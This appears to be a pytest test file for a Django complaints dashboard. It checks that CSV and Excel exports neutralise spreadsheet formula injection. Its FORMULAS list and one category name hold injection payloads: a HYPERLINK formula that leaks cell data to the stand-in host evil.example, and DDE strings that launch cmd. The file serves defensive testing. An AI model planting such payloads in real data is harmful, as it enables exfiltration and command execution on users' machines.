"""CSV/formula injection: no exported cell may start with = + - @ (or tab/CR), in CSV or Excel."""

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from complaints.models import Category, Complaint
from tests.factories.complaints import file_complaint

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("reference_data")]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formula_cases(bureau_a):
    cases = []
    for formula in FORMULAS:
        cases.append(
            file_complaint(respondent_name=formula, complainant_name=formula[0] + "某").complaint
        )
    assert {c.bureau_id for c in cases} == {bureau_a.pk}
    return cases


def csv_cells(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_cells(response):
    book = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_queue_csv_neutralises_formulas(login, handler_a, formula_cases):
    response = login(handler_a).get("/dashboard/export/cases.csv")
    assert response.status_code == 200
    rows = csv_cells(response)
    assert len(rows) == 1 + len(FORMULAS)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(DANGEROUS_START)]
    for formula in FORMULAS:
        assert "'" + formula in cells  # kept, readable, inert


def test_queue_xlsx_has_no_formula_cells(login, handler_a, formula_cases):
    response = login(handler_a).get("/dashboard/export/cases.xlsx")
    assert response.status_code == 200
    cells = xlsx_cells(response)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(DANGEROUS_START)]
    for formula in FORMULAS:
        assert "'" + formula.replace("\r", "\n") in texts  # XML reads a bare CR as LF


@pytest.mark.parametrize("path", ["statistics.csv", "statistics.xlsx"])
def test_statistics_exports_neutralise_formulas_in_names(login, supervisor_a, path):
    """Category and bureau names are administrators' data: still inert in a spreadsheet."""
    case = file_complaint().complaint
    Category.objects.filter(pk=case.category_id).update(name="=cmd|' /C calc'!A0")
    # A limit that has passed: the case counts in the on-time figures per category.
    Complaint.objects.filter(pk=case.pk).update(due_on=datetime.date(2026, 2, 2))
    response = login(supervisor_a).get(f"/dashboard/export/{path}")
    assert response.status_code == 200
    if path.endswith(".csv"):
        cells = [cell for row in csv_cells(response) for cell in row]
    else:
        found = xlsx_cells(response)
        assert not [c.coordinate for c in found if c.data_type == "f"]
        cells = [c.value for c in found if isinstance(c.value, str)]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell.startswith(DANGEROUS_START)]
